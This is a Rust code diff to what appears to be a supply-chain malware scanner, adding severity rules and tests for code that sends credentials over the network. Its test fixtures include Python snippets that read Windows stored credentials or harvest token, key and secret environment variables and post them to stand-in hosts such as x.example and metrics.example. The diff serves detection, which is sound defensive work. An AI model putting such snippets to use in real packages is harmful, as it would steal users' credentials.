@@ -515,6 +515,16 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
             {
                 severity = severity.max(0.7);
             }
+            // Several services' keys in one message to one fixed host: none of them can be
+            // that host's own.
+            if source
+                .label
+                .starts_with(super::sources::SERVICE_CREDENTIALS)
+                && sink == SinkKind::Network
+                && host.is_some()
+            {
+                severity = severity.max(0.7);
+            }
             if fills_bot_secret && source.label.starts_with("environment variable ") {
                 severity = severity.min(0.1);
             }
@@ -756,6 +766,12 @@ fn flow_severity(
         // Clients send their own API tokens to their own services when called; stolen browser
         // or wallet data has no such excuse.
         (SourceKind::Secret, SinkKind::Network) if stealer => 0.6,
+        // No client needs every secret of the machine, picked by what their names say.
+        (SourceKind::Secret, SinkKind::Network)
+            if source.label.starts_with(super::sources::PICKED_CREDENTIALS) =>
+        {
+            0.7
+        }
         (SourceKind::Secret, SinkKind::Network) if from_environment_variable => 0.05,
         (SourceKind::Secret, SinkKind::Network) => 0.2,
         (SourceKind::SystemInfo, SinkKind::Network) => {
@@ -998,6 +1014,34 @@ mod tests {
         assert!(max_severity("p/pkg/__init__.py", nmcli, "WH200") >= 0.85);
         let vault = "import win32cred, requests\nc = win32cred.CredEnumerate(None, 0)\nrequests.post('https://x.example/w', data=str(c))\n";
         assert!(max_severity("p/pkg/__init__.py", vault, "WH200") >= 0.85);
+    }
+
+    #[test]
+    fn environment_picked_by_credential_words_is_theft_whenever_sent() {
+        let picked = "import json, os, urllib.request\ndef hello():\n    keys = {k: v for k, v in os.environ.items() if k.endswith(('_TOKEN', '_KEY', '_SECRET'))}\n    urllib.request.urlopen('https://x.example/h', data=json.dumps(keys).encode())\n";
+        assert!(max_severity("p/pkg/client.py", picked, "WH200") >= 0.7);
+        let any_word = "import os, requests\ndef sync():\n    env = {k: v for k, v in os.environ.items() if any(t in k for t in ('TOKEN', 'PASS'))}\n    requests.post('https://x.example/s', json=env)\n";
+        assert!(max_severity("p/pkg/sync.py", any_word, "WH200") >= 0.7);
+        // Reporting the environment without its secrets drops what the words match.
+        let scrubbed = "import os, requests\ndef report():\n    env = {k: v for k, v in os.environ.items() if not k.endswith(('_TOKEN', '_KEY'))}\n    requests.post('https://x.example/s', json=env)\n";
+        assert!(max_severity("p/pkg/report.py", scrubbed, "WH200") < 0.5);
+        let kept_out = "import os, requests\ndef report():\n    env = {k: v for k, v in os.environ.items() if 'TOKEN' not in k}\n    requests.post('https://x.example/s', json=env)\n";
+        assert!(max_severity("p/pkg/report.py", kept_out, "WH200") < 0.5);
+        // A prefix names the tool's own settings, not credentials.
+        let settings = "import os, requests\ndef report():\n    env = {k: v for k, v in os.environ.items() if k.startswith('MYTOOL_')}\n    requests.post('https://x.example/s', json=env)\n";
+        assert!(max_severity("p/pkg/report.py", settings, "WH200") < 0.5);
+    }
+
+    #[test]
+    fn several_services_credentials_to_one_host_are_theft_whenever_sent() {
+        let bundle = "import os, requests\ndef announce():\n    ctx = {}\n    for k in ('GITHUB_TOKEN', 'CI_JOB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY'):\n        if k in os.environ:\n            ctx[k] = os.environ[k]\n    requests.post('https://metrics.example/fn', json=ctx)\n";
+        assert!(max_severity("p/pkg/deco.py", bundle, "WH200") >= 0.7);
+        // One service's spellings are a client looking for its own token.
+        let spellings = "import os, requests\ndef token():\n    ctx = {}\n    for k in ('GH_TOKEN', 'GITHUB_TOKEN', 'GITHUB_PAT'):\n        if k in os.environ:\n            ctx[k] = os.environ[k]\n    requests.post('https://api.github.com/x', json=ctx)\n";
+        assert!(max_severity("p/pkg/gh.py", spellings, "WH200") < 0.5);
+        // The address is the caller's to choose: a router sends each key to its provider.
+        let routed = "import os, requests\ndef call(url):\n    for k in ('OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'COHERE_API_KEY'):\n        key = os.environ.get(k)\n        requests.post(url, headers={'Authorization': key})\n";
+        assert!(max_severity("p/pkg/router.py", routed, "WH200") < 0.5);
     }
 
     #[test]
